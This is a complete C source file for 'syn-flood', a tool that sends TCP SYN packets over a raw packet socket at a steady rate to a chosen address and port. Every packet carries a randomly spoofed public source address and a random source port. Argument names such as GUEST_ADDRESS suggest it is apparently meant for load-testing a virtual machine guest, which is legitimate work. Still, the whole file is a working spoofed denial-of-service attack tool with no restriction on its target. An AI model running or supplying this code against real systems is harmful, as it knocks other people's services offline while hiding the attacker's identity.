/*
 * Sends TCP SYNs from random IPv4 addresses and ports through one interface, at a steady rate, and says how many.
 * Usage: syn-flood INTERFACE GUEST_MAC GUEST_ADDRESS PORT PER_SECOND SECONDS OPTIONS SEED
 * OPTIONS is "plain" (MSS only) or "linux" (MSS, SACK-permitted, timestamps, window scale, as Linux sends them).
 */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { ETHERNET = 14, IPV4 = 20, TCP = 20, LINUX_OPTIONS = 20, PLAIN_OPTIONS = 4 };

static uint64_t state;

static uint32_t draw(void)
{
    /* SplitMix64 */
    uint64_t z = (state += 0x9e3779b97f4a7c15u);
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9u;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebu;
    return (uint32_t)(z >> 32);
}

/* A public unicast address: what a spoofed flood comes from. */
static uint32_t draw_address(void)
{
    for (;;) {
        uint32_t address = draw();
        uint32_t first = address >> 24;
        uint32_t last = address & 0xff;
        if (first != 0 && first != 10 && first != 127 && first < 224 && last != 0 && last != 255)
            return address;
    }
}

static uint32_t sum_of(const uint8_t *bytes, int length, uint32_t sum)
{
    for (int i = 0; i < length; i += 2)
        sum += (uint32_t)bytes[i] << 8 | bytes[i + 1];
    return sum;
}

static void put16(uint8_t *at, uint32_t value)
{
    at[0] = (uint8_t)(value >> 8);
    at[1] = (uint8_t)value;
}

static void put32(uint8_t *at, uint32_t value)
{
    put16(at, value >> 16);
    put16(at + 2, value);
}

static void put_checksum(uint8_t *at, uint32_t sum)
{
    while (sum > 0xffff)
        sum = (sum & 0xffff) + (sum >> 16);
    put16(at, ~sum & 0xffff);
}

static void put_syn(uint8_t *frame, uint32_t target, uint32_t port, int options)
{
    uint8_t *ip = frame + ETHERNET;
    uint8_t *tcp = ip + IPV4;
    int length = TCP + options;
    put16(ip, 0x4500);
    put16(ip + 2, (uint32_t)(IPV4 + length));
    put32(ip + 4, 0x4000);
    put32(ip + 8, 0x40060000);
    put32(ip + 12, draw_address());
    put32(ip + 16, target);
    put_checksum(ip + 10, sum_of(ip, IPV4, 0));
    put16(tcp, 1024 + draw() % 64512);
    put16(tcp + 2, port);
    put32(tcp + 4, draw());
    put32(tcp + 8, 0);
    put32(tcp + 12, (uint32_t)(length / 4) << 28 | 0x0002faf0);
    put32(tcp + 16, 0);
    put32(tcp + 20, 0x020405b4);
    if (options == LINUX_OPTIONS) {
        put32(tcp + 24, 0x0402080a);
        put32(tcp + 28, draw());
        put32(tcp + 32, 0);
        put32(tcp + 36, 0x01030307);
    }
    put_checksum(tcp + 16, sum_of(tcp, length, sum_of(ip + 12, 8, 6 + (uint32_t)length)));
}

int main(int argc, char **argv)
{
    if (argc != 9) {
        fprintf(stderr, "usage: syn-flood INTERFACE MAC ADDRESS PORT PER_SECOND SECONDS OPTIONS SEED\n");
        return 2;
    }
    int options = strcmp(argv[7], "linux") == 0 ? LINUX_OPTIONS : PLAIN_OPTIONS;
    long rate = atol(argv[5]);
    long total = rate * atol(argv[6]);
    uint8_t frame[ETHERNET + IPV4 + TCP + LINUX_OPTIONS] = {0};
    uint32_t target = ntohl(inet_addr(argv[3]));
    unsigned mac[6];
    state = strtoull(argv[8], NULL, 10);

    int wire = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    struct ifreq request = {0};
    strncpy(request.ifr_name, argv[1], sizeof request.ifr_name - 1);
    if (wire < 0 || ioctl(wire, SIOCGIFHWADDR, &request) < 0) {
        perror("syn-flood");
        return 1;
    }
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(argv[1])};
    if (sscanf(argv[2], "%x:%x:%x:%x:%x:%x", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5) != 6)
        return 2;
    for (int i = 0; i < 6; i++)
        frame[i] = (uint8_t)mac[i];
    memcpy(frame + 6, request.ifr_hwaddr.sa_data, 6);
    put16(frame + 12, 0x0800);

    struct timespec next;
    clock_gettime(CLOCK_MONOTONIC, &next);
    long sent = 0;
    for (long count = 0; count < total; count++) {
        put_syn(frame, target, (uint32_t)atol(argv[4]), options);
        size_t length = (size_t)(ETHERNET + IPV4 + TCP + options);
        if (sendto(wire, frame, length, 0, (struct sockaddr *)&to, sizeof to) > 0)
            sent++;
        next.tv_nsec += 1000000000 / rate;
        if (next.tv_nsec >= 1000000000) {
            next.tv_nsec -= 1000000000;
            next.tv_sec++;
        }
        clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &next, NULL);
    }
    printf("%ld\n", sent);
    return 0;
}
